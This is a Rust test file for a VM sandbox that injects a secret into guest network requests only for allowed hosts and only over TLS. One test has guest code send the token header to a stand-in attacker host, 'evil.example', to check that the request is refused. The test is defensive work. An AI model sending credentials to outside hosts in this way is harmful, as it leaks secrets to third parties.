//! Secrets that a guest uses and never sees.

use std::net::Ipv4Addr;

use serde_json::{Value, json};

use super::authority::{Authority, serve_tls};
use super::world::{OTHER, PUBLIC, World, http, inside, serve};
use crate::common::{cordon, default_vm, stdout_of, vm};

const VALUE: &str = "sk-0123456789/abc+def";

/// Fetches and prints the status and all of the answer.
fn fetching(url: &str, options: &str) -> String {
    format!(
        r#"const token = process.env.TOKEN;
        const response = await fetch(`{url}`, {options});
        console.log(response.status, response.headers.get("x-seen"), await response.text());"#
    )
}

fn config(rules: Value, hosts: Value) -> Value {
    let secret =
        json!({ "name": "TOKEN", "value": VALUE, "hosts": hosts, "in": ["header", "query", "basic"] });
    json!({ "permissions": { "network": { "rules": rules } }, "network": { "secrets": [secret] } })
}

#[tokio::test]
async fn a_request_has_the_secret_and_the_guest_a_placeholder() {
    let (address, _) = serve(Ipv4Addr::LOCALHOST, 0, http).await;
    let rules = json!([{ "mode": "allow", "hosts": ["127.0.0.1"], "ports": [address.port()] }]);
    let vm = vm(config(rules, json!(["127.0.0.1"]))).await;
    let held = stdout_of(&vm, "console.log(process.env.TOKEN)").await;
    assert!(held.starts_with("cordon-secret-TOKEN-"), "{held}");
    let url = format!("http://{address}/a?key=${{token}}");
    let seen = stdout_of(&vm, &fetching(&url, "{ headers: { authorization: `Bearer ${token}` } }")).await;
    assert!(
        seen.starts_with("200 ") && seen.contains(&format!("authorization: Bearer {VALUE}\r\n")),
        "{seen}"
    );
    assert!(seen.contains("/a?key=sk-0123456789%2Fabc%2Bdef "), "{seen}");
    let refused = stdout_of(&vm, &fetching(&format!("http://{address}/${{token}}"), "{}")).await;
    assert!(refused.starts_with("403 ") && refused.contains("network.secrets[0]"), "{refused}");
    assert!(!refused.contains(VALUE), "{refused}");
    // Another VM's placeholder is nothing.
    assert_eq!(stdout_of(&default_vm().await, "console.log(process.env.TOKEN)").await, "undefined\n");
}

#[test]
fn a_placeholder_goes_to_nobody_else_and_nowhere_in_the_clear() {
    inside(
        "network::secrets::a_placeholder_goes_to_nobody_else_and_nowhere_in_the_clear",
        |world: World| async move {
            world.name("api.example.org", &[PUBLIC]);
            world.name("evil.example", &[OTHER]);
            let authority = Authority::new();
            let issued = authority.issue(&["api.example.org"]);
            let (api, _) = serve_tls(PUBLIC, authority.config(&issued, &[], false), http).await;
            let issued = authority.issue(&["evil.example"]);
            let (evil, _) = serve_tls(OTHER, authority.config(&issued, &[], false), http).await;
            let (clear, _) = serve(PUBLIC, 0, http).await;
            let rules = json!([
                { "mode": "allow", "hosts": ["api.example.org"], "ports": [api.port(), clear.port()] },
                { "mode": "allow", "operations": ["http"], "hosts": ["evil.example"], "ports": [evil.port()] },
            ]);
            let mut config = config(rules, json!(["api.example.org"]));
            config["network"]["extraCaCerts"] = json!(authority.pem);
            let vm = vm(config).await;
            let header = "{ headers: { 'x-key': token } }";
            let sent =
                stdout_of(&vm, &fetching(&format!("https://api.example.org:{}/", api.port()), header)).await;
            assert!(sent.starts_with("200 ") && sent.contains(&format!("x-key: {VALUE}\r\n")), "{sent}");
            for (url, why) in [
                (format!("https://evil.example:{}/", evil.port()), "is not for evil.example"),
                (format!("http://api.example.org:{}/", clear.port()), "over TLS"),
            ] {
                let refused = stdout_of(&vm, &fetching(&url, header)).await;
                assert!(refused.starts_with("403 ") && refused.contains(why), "{url}: {refused}");
            }
            // Whoever speaks TLS by themselves is not heard, so no placeholder goes out so.
            let own = format!(
                r#"import https from "node:https";
            https.get("https://api.example.org:{}/", {{ ciphers: "ECDHE-ECDSA-AES128-GCM-SHA256", maxVersion: "TLSv1.2" }},
                (response) => console.log(response.statusCode)).on("error", (error) => console.log(error.code));"#,
                api.port()
            );
            let own = stdout_of(&vm, &own).await;
            assert!(own.starts_with('E'), "{own}");
        },
    );
}

#[test]
fn the_command_line_takes_secrets() {
    let runtime = tokio::runtime::Builder::new_multi_thread().enable_all().build().unwrap();
    let (address, _) = runtime.block_on(serve(Ipv4Addr::LOCALHOST, 0, http));
    let allow = format!("network={address}");
    let source = format!(
        "const r = await fetch('http://{address}/', {{ headers: {{ 'x-key': process.env.KEY }} }}); r.text()"
    );
    let run = |secret: &str| {
        let mut command = cordon(&["eval", "--allow", &allow, "--secret", secret, &source]);
        command.env("KEY", VALUE).output().unwrap()
    };
    for secret in [format!("KEY={VALUE}@127.0.0.1"), "KEY@127.0.0.1".to_owned()] {
        let output = run(&secret);
        let text = String::from_utf8_lossy(&output.stdout).into_owned();
        assert!(
            text.contains(&format!("x-key: {VALUE}")),
            "{text} {}",
            String::from_utf8_lossy(&output.stderr)
        );
    }
    let wrong = run(&format!("KEY={VALUE}@*"));
    let text = String::from_utf8_lossy(&wrong.stderr).into_owned();
    assert!(text.contains("network.secrets[0].hosts[0]") && !text.contains(VALUE), "{text}");
}
